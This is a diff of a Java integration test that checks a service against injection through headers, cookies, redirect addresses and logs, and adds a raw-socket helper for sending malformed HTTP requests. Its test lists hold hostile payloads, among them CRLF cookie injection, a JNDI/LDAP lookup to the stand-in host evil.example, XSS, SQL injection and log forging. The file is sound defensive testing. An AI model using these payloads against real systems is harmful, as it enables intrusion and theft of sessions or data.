@@ -4,10 +4,17 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import java.io.IOException;
+import java.io.InputStream;
+import java.net.Socket;
+import java.net.SocketException;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -26,7 +33,6 @@ import world.World;
 /** No text of a caller or a provider reaches a header, a cookie, an address or the log. */
 @ExtendWith(World.class)
 class InjectionIT {
-
     private final String mark = "evil-" + UUID.randomUUID();
     private final Browser browser = new Browser(World.publicUrl());
 
@@ -45,18 +51,12 @@ class InjectionIT {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "%s\r\nSet-Cookie: accessToken=%s",
-                "%s\nX-Injected: %s",
-                "%s\r%s",
-                "%s; Path=/; Domain=evil.example; %s",
-                "\"%s\", %s",
-                "%s\u0000%s",
-                "%s\u2028\u0085%s",
-                "%s%%0d%%0aSet-Cookie:%%20%s",
-                "&redirect_uri=https://evil.example/%s&state=%s",
-                "#%s\"><script>%s</script>",
-                "%s${jndi:ldap://evil.example/%s}{0}%%n%%s",
-                "' or 1=1 -- %s%s"
+                "%s\r\nSet-Cookie: accessToken=%s", "%s\nX-Injected: %s",
+                "%s\r%s", "%s; Path=/; Domain=evil.example; %s",
+                "\"%s\", %s", "%s\u0000%s",
+                "%s\u2028\u0085%s", "%s%%0d%%0aSet-Cookie:%%20%s",
+                "&redirect_uri=https://evil.example/%s&state=%s", "#%s\"><script>%s</script>",
+                "%s${jndi:ldap://evil.example/%s}{0}%%n%%s", "' or 1=1 -- %s%s",
             })
     void noInputOfAFlowReachesAHeaderACookieOrTheAddressOfTheProvider(String form) {
         String text = form.formatted(mark, mark);
@@ -110,10 +110,8 @@ class InjectionIT {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "%s\r\n2026-01-01 00:00:00.000 INFO forged",
-                "%s\u0000\u001b[2J",
-                "%s<script>alert(1)</script>",
-                "%s\u202e\u2066"
+                "%s\r\n2026-01-01 00:00:00.000 INFO forged", "%s\u0000\u001b[2J",
+                "%s<script>alert(1)</script>", "%s\u202e\u2066",
             })
     void noWordOfAProviderReachesAHeaderOrTheLog(String form) {
         String text = form.formatted(mark);
@@ -164,19 +162,13 @@ class InjectionIT {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "Cookie: accessToken=%s\u0000",
-                "Cookie: accessToken=%s\r\n folded=%s",
-                "Cookie: accessToken=%s\rX-Injected: %s",
-                "Cookie: accessToken=%s\nX-Injected: %s",
-                "Cookie : accessToken=%s",
-                "Cookie: accessToken=%s\u00ff\u0080",
-                "Coo\u0000kie: %s",
-                "%s",
-                "X-Forwarded-For: %s\u0007, 1.2.3.4",
-                "Origin: https://%s.example",
-                "User-Agent: %s${jndi:ldap://evil.example/a}",
-                "Content-Type: application/json; charset=%s",
-                "Accept: %s"
+                "Cookie: accessToken=%s\u0000", "Cookie: accessToken=%s\r\n folded=%s",
+                "Cookie: accessToken=%s\rX-Injected: %s", "Cookie: accessToken=%s\nX-Injected: %s",
+                "Cookie : accessToken=%s", "Cookie: accessToken=%s\u00ff\u0080",
+                "Coo\u0000kie: %s", "%s",
+                "X-Forwarded-For: %s\u0007, 1.2.3.4", "Origin: https://%s.example",
+                "User-Agent: %s${jndi:ldap://evil.example/a}", "Content-Type: application/json; charset=%s",
+                "Accept: %s",
             })
     void noHeaderOfARequestReachesAnAnswerOrTheLog(String header) throws IOException {
         String answer =
@@ -219,5 +211,35 @@ class InjectionIT {
         String type = header.startsWith("Content-Type") ? "" : "Content-Type: application/json\r\n";
         return Bytes.exchange("POST /graphql HTTP/1.1\r\nHost: localhost\r\n" + type + header + "\r\nContent-Length: "
                 + body.length() + "\r\nConnection: close\r\n\r\n" + body);
+    }
+
+    /** Requests that no HTTP client sends. */
+    private static final class Bytes {
+        private static final Pattern LENGTH = Pattern.compile("(?i)\r\nContent-Length: (\\d+)\r\n");
+
+        private Bytes() {}
+
+        /** The first answer, or the bytes before the end of the connection. */
+        static String exchange(String request) throws IOException {
+            URI url = World.publicUrl();
+            var answer = new StringBuilder();
+            try (var socket = new Socket(url.getHost(), url.getPort())) {
+                socket.setSoTimeout(10_000);
+                socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
+                InputStream in = socket.getInputStream();
+                for (int next = in.read(); next >= 0; next = in.read()) {
+                    answer.append((char) next);
+                    if (answer.toString().endsWith("\r\n\r\n")) {
+                        Matcher length = LENGTH.matcher(answer);
+                        int left = length.find() ? Integer.parseInt(length.group(1)) : 0;
+                        answer.append(new String(in.readNBytes(left), StandardCharsets.ISO_8859_1));
+                        break;
+                    }
+                }
+            } catch (SocketException closed) {
+                // The service need not read the whole request
+            }
+            return answer.toString();
+        }
     }
 }
